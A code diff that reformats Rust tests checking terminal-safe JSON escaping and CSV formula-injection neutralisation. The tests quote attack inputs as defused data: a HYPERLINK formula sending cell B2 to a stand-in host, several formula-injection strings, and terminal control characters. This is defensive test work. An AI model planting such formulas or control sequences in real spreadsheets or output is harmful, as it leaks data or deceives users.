@@ -305,7 +305,9 @@ mod tests {
         let json = serde_json::to_string(&serde_json::json!({ "note": note })).expect("json");
         let shown = json_for_terminal(&json);
         assert!(is_terminal_safe(&shown), "{shown:?}");
-        assert!(shown.contains("\\u009b") && shown.contains("\\u202e") && shown.contains("\\u007f"));
+        assert!(
+            shown.contains("\\u009b") && shown.contains("\\u202e") && shown.contains("\\u007f")
+        );
         let back: serde_json::Value = serde_json::from_str(&shown).expect("still JSON");
         assert_eq!(back["note"], note, "the same data");
         assert!(shown.contains('é'), "printable text is left alone");
@@ -327,7 +329,10 @@ mod tests {
             "\"'=HYPERLINK(\"\"http://x/?\"\"&B2,\"\"ok\"\")\""
         );
         for risky in ["+1+cmd", "-2+3", "@SUM(A1)", "\tx", "\rx", "=1"] {
-            assert!(csv_cell(risky).trim_start_matches('"').starts_with('\''), "{risky:?}");
+            assert!(
+                csv_cell(risky).trim_start_matches('"').starts_with('\''),
+                "{risky:?}"
+            );
         }
         for number in ["-0.25", "+3", "-1e-3"] {
             assert_eq!(csv_cell(number), number);
